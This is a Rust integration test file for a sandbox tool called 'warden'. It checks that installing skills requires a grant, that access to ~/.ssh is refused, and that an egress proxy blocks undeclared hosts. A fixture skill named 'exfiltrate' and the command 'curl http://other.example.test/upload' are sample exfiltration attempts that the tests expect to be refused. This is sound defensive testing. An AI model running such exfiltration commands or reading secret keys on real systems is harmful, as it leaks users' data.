//! `warden skill list|show|install|grant|revoke|run` through the real binary: the bundled
//! skill, installing with and without confirmation, provenance and grants in `list`, invalid
//! skills, the egress proxy (a declared domain reaches a local server through it and nothing
//! else does), and the Docker backend's refusal of skills that need a network.

use crate::support::skills::{hosts_config, Server, SkillEnv};

#[test]
fn the_bundled_skill_runs_and_its_runs_are_listed() {
    let env = SkillEnv::new("");
    let list = env.warden(&["skill", "list"]);
    assert_eq!(list.code, 0, "{list:?}");
    assert!(list.stdout.contains("csv-stats"), "{}", list.stdout);
    assert!(
        list.stdout.contains("bundled with warden"),
        "{}",
        list.stdout
    );
    assert!(list.stdout.contains("never"), "{}", list.stdout);

    std::fs::create_dir_all(&env.ws).unwrap();
    let csv = env.ws.join("sales.csv");
    std::fs::write(&csv, "city,sales\nParis,10\nLyon,5\nParis,7\n").unwrap();
    let out = env.warden(&["skill", "run", "csv-stats", &csv.display().to_string()]);
    assert_eq!(out.code, 0, "{out:?}");
    assert!(
        out.stdout.contains("3 data rows, 2 columns"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout
            .contains("| sales | number | 0 | 3 | 5 | 10 | 7.333 |"),
        "{}",
        out.stdout
    );
    assert!(out.stdout.contains("Paris (2)"), "{}", out.stdout);

    // Reading outside what it declared (the workspace) is refused by its policy.
    let secret = env.home.join(".ssh/id_rsa").display().to_string();
    let out = env.warden(&["skill", "run", "csv-stats", &secret]);
    assert_eq!(out.code, 126, "{out:?}");
    assert!(
        out.stderr.contains("is outside the skill's scratch folder"),
        "{}",
        out.stderr
    );
    env.assert_no_secret(&out.all());

    // Its scratch folder is HOME and writable; the workspace it may only read.
    let out = env.warden(&[
        "skill",
        "run",
        "csv-stats",
        "--command",
        "touch ~/scratch-file && ls ~",
    ]);
    assert_eq!(
        (out.code, out.stdout.as_str()),
        (0, "scratch-file\n"),
        "{out:?}"
    );
    let inside = env.ws.join("planted").display().to_string();
    let out = env.warden(&[
        "skill",
        "run",
        "csv-stats",
        "--command",
        &format!("touch {inside}"),
    ]);
    assert_eq!(out.code, 126, "{out:?}");
    assert!(out.stderr.contains("in a read-only root"), "{}", out.stderr);
    assert!(!env.ws.join("planted").exists());
    // Nothing of a run is left behind.
    assert_eq!(
        std::fs::read_dir(env.data.join("skill-runs"))
            .unwrap()
            .count(),
        0
    );

    let list = env.warden(&["skill", "list", "--json"]);
    let rows: serde_json::Value = serde_json::from_str(&list.stdout).unwrap();
    let csv_row = rows
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == "csv-stats")
        .unwrap();
    assert_eq!(csv_row["source"], "bundled");
    assert_eq!(csv_row["grant"]["status"], "bundled");
    assert!(csv_row["hash"].as_str().unwrap().starts_with("sha256:"));
    assert_eq!(csv_row["last_run"]["decision"], "deny");
    let audit = env.audit();
    let runs: Vec<_> = audit
        .iter()
        .filter(|r| r.tool == "skill:csv-stats")
        .collect();
    assert_eq!(runs.len(), 4, "{audit:?}");
    assert_eq!(
        (runs[0].decision.as_str(), runs[0].exit_code),
        ("allow", Some(0))
    );
    assert_eq!(runs[1].decision, "deny");
    assert!(
        runs[1]
            .reason
            .contains("outside the skill's scratch folder"),
        "{}",
        runs[1].reason
    );
    assert_eq!(runs[1].session, "cli");
}

#[test]
fn installing_asks_and_records_provenance_pinned_to_the_content() {
    let env = SkillEnv::new("");
    let path = env.fixture("weather").display().to_string();
    // No terminal, no --yes: refused, nothing copied.
    let out = env.warden(&["skill", "install", &path]);
    assert_eq!(out.code, 1, "{out:?}");
    assert!(
        out.stdout
            .contains("connect to api.example.test (ports 80 and 443)"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("run its own scripts with python3"),
        "{}",
        out.stdout
    );
    assert!(
        out.stderr.contains("no terminal to ask on"),
        "{}",
        out.stderr
    );
    assert!(!env.ws.join("skills/weather").exists());
    let row = env.last_audit("skill-install:weather");
    assert_eq!(row.decision, "rejected");

    env.install("weather");
    assert!(env.ws.join("skills/weather/forecast.py").is_file());
    let list = env.warden(&["skill", "list"]);
    assert!(
        list.stdout.contains(&format!("installed from {path}")),
        "{}",
        list.stdout
    );
    assert!(list.stdout.contains("granted 20"), "{}", list.stdout);
    assert_eq!(env.last_audit("skill-install:weather").decision, "allow");

    // Revoked: listed as not granted, and refused with the way back.
    let out = env.warden(&["skill", "revoke", "weather"]);
    assert_eq!(out.code, 0, "{out:?}");
    let out = env.warden(&["skill", "run", "weather", "Paris"]);
    assert_eq!(out.code, 126, "{out:?}");
    assert!(out.stderr.contains("is not granted"), "{}", out.stderr);
    assert!(
        out.stderr.contains("warden skill grant weather"),
        "{}",
        out.stderr
    );
    let show = env.warden(&["skill", "show", "weather"]);
    assert!(
        show.stdout.contains("Grant: not granted"),
        "{}",
        show.stdout
    );
    let out = env.warden(&["skill", "grant", "--yes", "weather"]);
    assert_eq!(out.code, 0, "{out:?}");
    let show = env.warden(&["skill", "show", "weather"]);
    assert!(show.stdout.contains("Grant: granted"), "{}", show.stdout);
}

#[test]
fn manifests_reaching_outside_are_refused_at_install() {
    let env = SkillEnv::new("");
    let out = env.warden(&[
        "skill",
        "install",
        "--yes",
        &env.fixture("vandal-manifest").display().to_string(),
    ]);
    assert_eq!(out.code, 1, "{out:?}");
    assert!(
        out.stderr
            .contains("skill folders are never writable by skills"),
        "{}",
        out.stderr
    );
    assert!(!env.ws.join("skills/vandal-manifest").exists());
    env.assert_audited(
        "skill-install:vandal-manifest",
        "deny",
        "skill folders are never writable",
    );

    for (manifest, why) in [
        (
            "[permissions.paths]\nread = [\"~/.ssh\"]\n",
            "inside the workspace",
        ),
        (
            "[permissions.paths]\nread = [\"../..\"]\n",
            "leave the workspace",
        ),
        (
            "[permissions.limits]\nmemory_mb = 100000\n",
            "above the global limit",
        ),
        ("[permissions.commands.bash]\n", "cannot be granted"),
    ] {
        let dir = env.root.join("greedy");
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(
            dir.join("SKILL.md"),
            "---\nname: greedy\ndescription: wants more\n---\n",
        )
        .unwrap();
        std::fs::write(dir.join("skill.toml"), manifest).unwrap();
        let out = env.warden(&["skill", "install", "--yes", &dir.display().to_string()]);
        assert_eq!(out.code, 1, "{manifest}: {out:?}");
        assert!(out.stderr.contains(why), "{manifest}: {}", out.stderr);
    }
}

#[test]
fn invalid_and_overriding_workspace_skills() {
    let env = SkillEnv::new("");
    let skills = env.ws.join("skills");
    std::fs::create_dir_all(skills.join("broken")).unwrap();
    std::fs::write(
        skills.join("broken/SKILL.md"),
        "---\nname: broken\ndescription: a\ndescription: b\n---\n",
    )
    .unwrap();
    let list = env.warden(&["skill", "list"]);
    assert!(list.stdout.contains("broken"), "{}", list.stdout);
    assert!(
        list.stdout.contains("invalid: SKILL.md frontmatter"),
        "{}",
        list.stdout
    );
    let out = env.warden(&["skill", "run", "broken"]);
    assert_eq!(out.code, 126);
    assert!(out.stderr.contains("is not valid"), "{}", out.stderr);
    assert!(env.last_audit("skill:broken").reason.contains("duplicate"));

    // A workspace copy of a bundled skill takes its name over, and needs a grant.
    let bundled = env.data.join("bundled-skills/csv-stats");
    let copy = skills.join("csv-stats");
    std::fs::create_dir_all(copy.join("scripts")).unwrap();
    for file in ["SKILL.md", "skill.toml", "scripts/csv_stats.py"] {
        std::fs::copy(bundled.join(file), copy.join(file)).unwrap();
    }
    let csv = env.ws.join("t.csv");
    std::fs::write(&csv, "a\n1\n").unwrap();
    let out = env.warden(&["skill", "run", "csv-stats", &csv.display().to_string()]);
    assert_eq!(out.code, 126, "{out:?}");
    assert!(out.stderr.contains("is not granted"), "{}", out.stderr);
    let out = env.warden(&["skill", "grant", "--yes", "csv-stats"]);
    assert_eq!(out.code, 0, "{out:?}");
    assert!(
        out.stdout.contains("Grant these permissions? yes"),
        "{}",
        out.stdout
    );
    let out = env.warden(&["skill", "run", "csv-stats", &csv.display().to_string()]);
    assert_eq!(out.code, 0, "{out:?}");
    let list = env.warden(&["skill", "list", "--json"]);
    let rows: serde_json::Value = serde_json::from_str(&list.stdout).unwrap();
    let row = rows
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == "csv-stats")
        .unwrap();
    assert_eq!(row["source"], "workspace");
    assert_eq!(row["grant"]["origin"], "found in the workspace");
}

#[test]
fn a_declared_domain_is_reached_through_the_proxy_and_nothing_else() {
    let allowed = Server::start();
    let other = Server::start();
    let env = SkillEnv::new(&hosts_config(&allowed, &other));
    env.install("weather");
    let out = env.warden(&["skill", "run", "weather", "Lyon"]);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(out.stdout.trim(), "forecast for /forecast?city=Lyon: sunny");
    assert!(
        out.stderr.contains("egress allowed: api.example.test:80"),
        "{}",
        out.stderr
    );
    assert_eq!(
        allowed.requests(),
        ["GET /forecast?city=Lyon HTTP/1.1 | Host: api.example.test"]
    );

    // The same trick from a skill that tries to get around it: an undeclared domain through
    // the proxy (HTTP and HTTPS), an address through the proxy, and the other server directly.
    env.install("exfiltrate");
    let direct = other.addr.to_string();
    let out = env.warden(&["skill", "run", "exfiltrate", &direct]);
    assert_eq!(out.code, 1, "{out:?}");
    assert!(!out.all().contains("SENT"), "{}", out.all());
    assert!(out.stderr.contains("HTTP Error 403"), "{}", out.stderr);
    assert!(
        out.stderr.contains("Tunnel connection failed: 403"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("PermissionError"), "{}", out.stderr);
    let row = env.last_audit("skill:exfiltrate");
    for reason in [
        "egress proxy refused other.example.test:80: other.example.test is not a declared domain",
        "egress proxy refused other.example.test:443",
        "PermissionError: [Errno 13] Permission denied",
    ] {
        assert!(row.reason.contains(reason), "{reason}: {}", row.reason);
        assert!(out.stderr.contains(reason), "{reason}: {}", out.stderr);
    }
    // The proxy's own address is asked directly (NO_PROXY, for routes): port 80 is not the
    // proxy's, so Landlock refuses the connect.
    assert!(
        out.stderr.contains("an address through the proxy: blocked"),
        "{}",
        out.stderr
    );
    // And its documented `curl` route is a command its manifest never declared.
    let out = env.warden(&[
        "skill",
        "run",
        "exfiltrate",
        "--command",
        "curl http://other.example.test/upload",
    ]);
    assert_eq!(out.code, 126, "{out:?}");
    assert!(
        out.stderr.contains("curl: a network tool"),
        "{}",
        out.stderr
    );
    assert!(env
        .last_audit("skill:exfiltrate")
        .reason
        .contains("curl: a network tool"));

    assert_eq!(
        other.connections(),
        0,
        "the undeclared server was reached: {:?}",
        other.requests()
    );
    assert_eq!(allowed.requests().len(), 1, "{:?}", allowed.requests());
}

#[test]
fn the_docker_backend_refuses_skills_that_need_a_network() {
    if !std::path::Path::new("/var/run/docker.sock").exists() {
        eprintln!("skipped: no Docker daemon");
        return;
    }
    let env = SkillEnv::new("[sandbox]\nbackend = \"docker\"\n");
    env.install("weather");
    let out = env.warden(&["skill", "run", "weather", "Paris"]);
    assert_eq!(out.code, 126, "{out:?}");
    assert!(
        out.stderr
            .contains("the Docker backend runs containers without any network"),
        "{}",
        out.stderr
    );
    assert!(env
        .last_audit("skill:weather")
        .reason
        .contains("Docker backend"));

    // A skill without network needs runs in a container of its own, over its private copy.
    let dir = env.root.join("hello");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("SKILL.md"),
        "---\nname: hello\ndescription: prints a greeting\n---\n",
    )
    .unwrap();
    std::fs::write(dir.join("greeting.txt"), "hello from the container\n").unwrap();
    std::fs::write(
        dir.join("skill.toml"),
        "run = [\"cat\", \"greeting.txt\"]\n",
    )
    .unwrap();
    let out = env.warden(&["skill", "install", "--yes", &dir.display().to_string()]);
    assert_eq!(out.code, 0, "{out:?}");
    let out = env.warden(&["skill", "run", "hello"]);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(out.stdout, "hello from the container\n");
    assert!(
        out.stderr.contains("in the docker sandbox"),
        "{}",
        out.stderr
    );
}
